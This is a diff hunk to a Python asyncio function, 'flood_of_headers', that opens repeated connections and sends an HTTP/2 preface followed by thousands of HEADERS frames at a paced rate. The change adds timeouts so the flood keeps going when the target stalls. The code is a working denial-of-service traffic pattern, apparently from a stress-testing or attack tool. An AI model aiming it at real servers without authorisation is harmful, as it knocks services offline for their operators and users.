@@ -137,8 +137,9 @@ async def flood_of_headers(
     async def one() -> None:
         nonlocal sent
         while perf_counter() - began < seconds:
-            with suppress(OSError, asyncio.IncompleteReadError):
-                reader, writer = await asyncio.open_connection(host, int(port))
+            with suppress(OSError, TimeoutError):
+                async with asyncio.timeout(1):  # it may be held off
+                    reader, writer = await asyncio.open_connection(host, int(port))
                 writer.write(PREFACE)
                 for number in range(1, 20_000, 2):
                     if (early := sent / rate - (perf_counter() - began)) > 0:
@@ -147,7 +148,8 @@ async def flood_of_headers(
                         break
                     writer.write(frame(1, 5, number, call))
                     sent += len(call)
-                    await writer.drain()
+                    async with asyncio.timeout(1):
+                        await writer.drain()
                 writer.transport.abort()
 
     await asyncio.gather(*(one() for _ in range(4)))
